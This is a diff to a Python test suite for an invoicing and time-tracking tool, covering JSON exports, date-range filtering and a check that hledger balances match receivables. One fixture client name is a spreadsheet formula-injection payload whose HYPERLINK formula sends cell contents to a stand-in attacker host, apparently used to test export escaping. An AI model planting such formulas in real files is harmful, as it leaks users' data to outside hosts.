@@ -31,6 +31,7 @@ from exports.ledger import (
     transactions,
 )
 from exports.tables import safe_cell
+from tests import keyring_service
 
 START = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
 HLEDGER = shutil.which("hledger")
@@ -186,13 +187,15 @@ def test_one_csv_table_to_a_file_and_refusals(desk, tmp_path) -> None:
         export(desk, "xlsx", tmp_path / "x.xlsx")
     blocker = tmp_path / "file"
     blocker.write_text("")
-    with pytest.raises(Refused, match="Cannot write"):
+    with pytest.raises(Refused, match="not a folder"):
         export(desk, "json", blocker / "x.json")
 
 
 def test_json_has_both_tables_with_exact_amounts(desk, tmp_path) -> None:
     (path,) = export(desk, "json", tmp_path / "export.json")
-    document = json.loads(path.read_text(encoding="utf-8"))
+    text = path.read_text(encoding="utf-8")
+    document = json.loads(text)
+    assert text == json.dumps(document, indent=2, ensure_ascii=False) + "\n"  # streamed alike
     assert (document["from"], document["to"], document["currency"]) == (None, None, "USD")
     assert document["invoices"][2] == {
         "number": "2026-0003",
@@ -216,20 +219,24 @@ def test_json_has_both_tables_with_exact_amounts(desk, tmp_path) -> None:
     }
     (only,) = export(desk, "json", tmp_path / "e.json", table="entries")
     assert set(json.loads(only.read_text())) == {"from", "to", "currency", "time_entries"}
+    (empty,) = export(desk, "json", tmp_path / "none.json", start=date(2027, 1, 1))
+    text = empty.read_text(encoding="utf-8")
+    assert text == json.dumps(json.loads(text), indent=2, ensure_ascii=False) + "\n"
+    assert json.loads(text)["from"] == "2027-01-01" and json.loads(text)["invoices"] == []
 
 
 def test_the_period_is_inclusive_local_days(desk) -> None:
     day = date(2026, 3, 2)
-    assert len(invoice_rows(desk, day, day)) == 4
-    assert invoice_rows(desk, date(2026, 3, 3)) == []
-    assert len(entry_rows(desk, end=day)) == 4
-    assert entry_rows(desk, start=date(2026, 3, 3)) == []
+    assert len(list(invoice_rows(desk, day, day))) == 4
+    assert list(invoice_rows(desk, date(2026, 3, 3))) == []
+    assert len(list(entry_rows(desk, end=day))) == 4
+    assert list(entry_rows(desk, start=date(2026, 3, 3))) == []
 
 
 def test_invoices_are_exported_as_printed_after_a_rename(desk, tmp_path) -> None:
     desk.clients.update(1, name="Harbor Smiles Group")
-    assert invoice_rows(desk)[0].client == "Harbor Dental Clinic"
-    assert entry_rows(desk)[0].client == "Harbor Smiles Group"
+    assert next(invoice_rows(desk)).client == "Harbor Dental Clinic"
+    assert next(entry_rows(desk)).client == "Harbor Smiles Group"
     assert ledger_invoices(desk)[0].client == "Harbor Smiles Group"  # one account per client
 
 
@@ -392,3 +399,49 @@ def test_the_export_command(desk, tmp_path) -> None:
     assert done.exit_code == 1 and "--table" in done.output
     done = runner.invoke(cli, ["--db", db, "export", "pdf", "-o", str(out)])
     assert done.exit_code == 2
+
+
+def test_hledger_balances_match_the_receivables(desk, cli, tmp_path) -> None:
+    """Partial payments, a credit note and a void: what `hledger bal` says each client
+    still owes is what `hourdesk receivables` says."""
+    if HLEDGER is None:
+        keyring_service.skip_or_fail("hledger is not installed (apt-get install hledger)")
+    db = desk.db.execute("PRAGMA database_list").fetchone()[2]
+    desk.close()
+    env = {"HOURDESK_NOW": "2026-03-20T12:00:00Z"}
+    for number, amount, method, day in [
+        ("2026-0001", "100.00", "bank", "2026-03-05"),
+        ("2026-0002", "50.00", "paypal", "2026-03-06"),
+        ("2026-0002", "60.00", "bank", "2026-03-09"),
+    ]:
+        paid = cli.run(
+            "--db", db, "pay", number, "--amount", amount, "--method", method, "--date", day,
+            env=env,
+        )  # fmt: skip
+        assert paid.returncode == 0, paid.stderr
+    path = tmp_path / "books.journal"
+    exported = cli.run("--db", db, "export", "ledger", "-o", path, env=env)
+    assert exported.returncode == 0, exported.stderr
+    owed = json.loads(cli.run("--db", db, "receivables", "--json", env=env).stdout)
+
+    assert hledger("-f", str(path), "check").returncode == 0
+    checked = hledger("-f", str(path), "check", "--strict")
+    assert checked.returncode == 0, checked.stderr
+    balances = hledger("-f", str(path), "bal", "--flat", "--no-total", "-O", "csv", "Receivable")
+    assert balances.returncode == 0, balances.stderr
+    books = {
+        account: Decimal(value.removeprefix("USD "))
+        for account, value in csv.reader(io.StringIO(balances.stdout))
+        if account.startswith("Assets:")
+    }
+    expected = {
+        f"Assets:Receivable:{account_part(c['name'])}": Decimal(c["total"]) for c in owed["clients"]
+    }
+    assert expected == {
+        "Assets:Receivable:Harbor Dental Clinic": Decimal("40.00"),
+        'Assets:Receivable:=HYPERLINK("http-//evil.example/?"&A1,"Click")': Decimal("140.00"),
+    }
+    assert {a: v for a, v in books.items() if v} == expected
+    assert sum(books.values()) == Decimal(owed["total"])
+    cash = hledger("-f", str(path), "bal", "--flat", "--no-total", "-O", "csv", "Bank|PayPal")
+    assert "USD 160.00" in cash.stdout and "USD 50.00" in cash.stdout
